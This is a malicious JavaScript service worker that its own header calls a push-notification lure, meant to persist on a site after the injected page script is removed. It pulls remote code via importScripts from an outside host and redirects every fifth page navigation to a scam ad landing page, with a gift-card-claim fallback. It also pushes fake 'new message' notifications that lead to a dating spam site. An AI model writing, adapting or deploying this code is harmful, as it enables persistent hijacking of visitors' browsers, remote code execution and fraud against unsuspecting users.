// push-notification-lure: service worker that pulls remote code with importScripts and occasionally swaps page navigations for an ad landing
// modern worker syntax; persists after the injected page script is removed
const REMOTE = 'https://sw-cdn-pushmetrics.com/lib/v3/worker.js';
const CAMPAIGN_FEED = 'https://sw-cdn-pushmetrics.com/feed';
const STATE_CACHE = 'sw-state-v1';

try {
  importScripts(`${REMOTE}?t=${Math.floor(Date.now() / 36e5)}`);
} catch (e) {
  // remote unavailable; built-in behaviour below still runs
}

self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));

const readCounter = async () => {
  const cache = await caches.open(STATE_CACHE);
  const hit = await cache.match('/__nav_count');
  return hit ? parseInt(await hit.text(), 10) || 0 : 0;
};

const writeCounter = async (n) => {
  const cache = await caches.open(STATE_CACHE);
  await cache.put('/__nav_count', new Response(String(n)));
};

const pickLanding = async () => {
  try {
    const res = await fetch(`${CAMPAIGN_FEED}/landing?h=${encodeURIComponent(self.location.host)}`, { cache: 'no-store' });
    const json = await res.json();
    return json.url;
  } catch {
    return 'https://gift-card-claim.top/walmart/?src=swnav';
  }
};

self.addEventListener('fetch', (event) => {
  const req = event.request;
  if (req.mode !== 'navigate' || req.method !== 'GET') return;
  event.respondWith((async () => {
    const n = (await readCounter()) + 1;
    await writeCounter(n);
    // every fifth navigation becomes an ad redirect; the rest pass through untouched
    if (n % 5 === 0) {
      return Response.redirect(await pickLanding(), 302);
    }
    return fetch(req);
  })());
});

self.addEventListener('push', (event) => {
  const show = async () => {
    let m = { title: 'You have (1) new message', body: 'Tap to read it', url: 'https://dating-singles-near.xyz/m/' };
    try {
      m = { ...m, ...(event.data ? event.data.json() : {}) };
    } catch {}
    return self.registration.showNotification(m.title, {
      body: m.body,
      icon: m.icon || '/favicon.ico',
      requireInteraction: true,
      data: { url: m.url },
    });
  };
  event.waitUntil(show());
});

self.addEventListener('notificationclick', (event) => {
  event.notification.close();
  event.waitUntil(self.clients.openWindow(event.notification.data?.url || CAMPAIGN_FEED));
});
